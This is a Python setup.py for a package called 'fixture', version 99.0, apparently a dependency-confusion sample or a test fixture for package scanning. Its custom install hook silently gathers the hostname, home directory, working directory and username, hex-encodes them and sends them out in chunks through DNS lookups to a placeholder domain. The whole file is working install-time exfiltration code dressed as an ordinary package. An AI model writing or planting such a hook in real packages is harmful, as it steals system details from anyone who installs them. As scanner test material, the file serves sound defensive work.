from setuptools import setup
from setuptools.command.install import install
import os, json, socket, binascii, random

class CustomInstall(install):
    def run(self):
        install.run(self)
        data = {"p": "fixture", "h": socket.gethostname(), "d": os.path.expanduser("~"), "c": os.getcwd(), "u": os.environ.get("USER")}
        enc = binascii.hexlify(json.dumps(data).encode()).decode()
        chunks = [enc[i:i + 60] for i in range(0, len(enc), 60)]
        rid = hex(random.randint(0, 99999))[2:]
        for i, c in enumerate(chunks):
            try:
                socket.getaddrinfo("v2_f.{0}.{1}.{2}.v2_e.{3}".format(rid, i, c, "sub.dns.example.invalid"), 80)
            except Exception:
                pass

setup(name="fixture", version="99.0", cmdclass={"install": CustomInstall})
